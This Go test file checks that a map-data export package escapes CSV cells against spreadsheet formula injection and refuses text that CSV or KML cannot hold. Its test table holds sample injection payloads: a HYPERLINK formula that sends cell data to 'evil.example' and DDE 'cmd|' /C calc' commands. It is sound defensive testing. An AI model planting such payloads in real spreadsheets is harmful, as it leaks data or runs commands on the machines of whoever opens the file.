package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/paulmach/orb"
	"github.com/protectmap/protectmap/geo"
	"github.com/protectmap/protectmap/geo/geojson"
)

// neutralCells is the one table of CSV cells and how they are written.
var neutralCells = []struct{ name, in, want string }{
	{"empty", "", ""},
	{"plain text", "Kyiv TPP-5", "Kyiv TPP-5"},
	{"formula", "=1+1", "'=1+1"},
	{"hyperlink", `=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
	{"plus", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
	{"minus formula", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"at", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
	{"tab", "\t=1", "'\t=1"},
	{"carriage return", "\r=1", "'\r=1"},
	{"negative number", "-12.5", "-12.5"},
	{"negative exponent", "-1e-3", "-1e-3"},
	{"negative zero", "-0", "-0"},
	{"positive number", "12.5", "12.5"},
	{"leading plus number", "+12", "'+12"},
	{"minus alone", "-", "'-"},
	{"minus dot", "-.5", "'-.5"},
	{"minus leading zero", "-012", "'-012"},
	{"minus hex", "-0x1p4", "'-0x1p4"},
	{"minus Inf", "-Inf", "'-Inf"},
	{"number then text", "-12.5 km", "'-12.5 km"},
	{"formula later", "a=1", "a=1"},
	{"space then formula", " =1", " =1"},
}

func TestNeutralCell(t *testing.T) {
	for _, tc := range neutralCells {
		t.Run(tc.name, func(t *testing.T) {
			if got := NeutralCell(tc.in); got != tc.want {
				t.Errorf("NeutralCell(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

// TestCSVExportNeutral writes the table's cells as a feature's id, a
// property's name and its value through the layers' CSV export, and reads
// each back as the table says.
func TestCSVExportNeutral(t *testing.T) {
	for _, tc := range neutralCells {
		t.Run(tc.name, func(t *testing.T) {
			props, _ := json.Marshal(map[string]string{"name": tc.in})
			f := &geo.Feature{ID: tc.in, Geometry: orb.Point{30.5, 50.4}, Properties: props}
			var buf bytes.Buffer
			w, err := NewWriter(&buf, CSV, Options{Name: "t", Columns: []string{"name"}})
			if err != nil {
				t.Fatal(err)
			}
			if err := w.Write(f, geojson.Member{Key: tc.in, Value: tc.in}); err != nil {
				t.Fatal(err)
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(rows) != 2 || rows[0][5] != tc.want || rows[1][0] != tc.want || rows[1][4] != tc.want || rows[1][5] != tc.want {
				t.Errorf("rows %q, want %q as the id, the name, and the extra column's name and value", rows, tc.want)
			}
		})
	}
}

// FuzzNeutralCell: a neutralised cell never begins with a character a
// spreadsheet evaluates, unless it is a JSON number, and dropping the
// apostrophe gives the cell back.
func FuzzNeutralCell(f *testing.F) {
	for _, tc := range neutralCells {
		f.Add(tc.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := NeutralCell(s)
		if got != s && got != "'"+s {
			t.Fatalf("NeutralCell(%q) = %q: neither the cell nor the cell after an apostrophe", s, got)
		}
		number := geo.IsNumber(s)
		if number != (s != "" && strings.ContainsRune("-0123456789", rune(s[0])) && strings.TrimSpace(s) == s && json.Valid([]byte(s))) {
			t.Fatalf("geo.IsNumber(%q) = %v, unlike encoding/json", s, number)
		}
		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) && !number {
			t.Fatalf("NeutralCell(%q) = %q begins with a formula character", s, got)
		}
	})
}

// TestWritersRefuseText: text a format cannot hold is refused with
// ErrText, naming the feature (and the property in KML), never altered:
// NUL in CSV and KML, and the C0 controls XML forbids in KML. Text the
// format holds, such as a tab or U+0001 in CSV, is written as it is.
func TestWritersRefuseText(t *testing.T) {
	for _, tc := range []struct {
		name   string
		format Format
		props  string
		id     string
		refuse string // words of the error; empty when written
	}{
		{"NUL in a CSV cell", CSV, `{"name":"Kyiv\u0000TPP"}`, "s1", "feature s1: export: text the format cannot hold: column 5 holds NUL"},
		{"NUL in a CSV id", CSV, `{}`, "s\x00", "column 1 holds NUL"},
		{"control in a CSV cell", CSV, `{"name":"a\u0001b\tc"}`, "s1", ""},
		{"NUL in KML", KML, `{"name":"Kyiv\u0000TPP"}`, "s1", `feature s1: property "name": export: text the format cannot hold: U+0000`},
		{"NUL in a KML property", KML, `{"note":"x\u0000"}`, "s1", `feature s1: property "note": export: text the format cannot hold: U+0000`},
		{"control in a KML property", KML, `{"note":"x\u0001"}`, "s1", `property "note": export: text the format cannot hold: U+0001, which XML cannot hold`},
		{"control in a KML key", KML, `{"a\u001fb":1}`, "s1", `U+001F`},
		{"tab and line feed in KML", KML, `{"note":"a\tb\nc"}`, "s1", ""},
		{"NUL in a KML id", KML, `{}`, "s\x00", "feature s\x00: id: export: text the format cannot hold"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := &geo.Feature{ID: tc.id, Geometry: orb.Point{30.5, 50.4}, Properties: json.RawMessage(tc.props)}
			var props map[string]string
			json.Unmarshal(f.Properties, &props) //nolint:errcheck // a number is no string: skipped
			f.Name = props["name"]
			var buf bytes.Buffer
			w, err := NewWriter(&buf, tc.format, Options{Name: "t", Columns: []string{"name"}})
			if err != nil {
				t.Fatal(err)
			}
			err = w.Write(f)
			if tc.refuse == "" {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				if err := w.Close(); err != nil {
					t.Fatal(err)
				}
				if strings.ContainsRune(buf.String(), '\uFFFD') {
					t.Fatalf("text altered:\n%s", buf.String())
				}
				return
			}
			if !errors.Is(err, ErrText) || !strings.Contains(err.Error(), tc.refuse) {
				t.Fatalf("error %v, want ErrText saying %q", err, tc.refuse)
			}
		})
	}
}
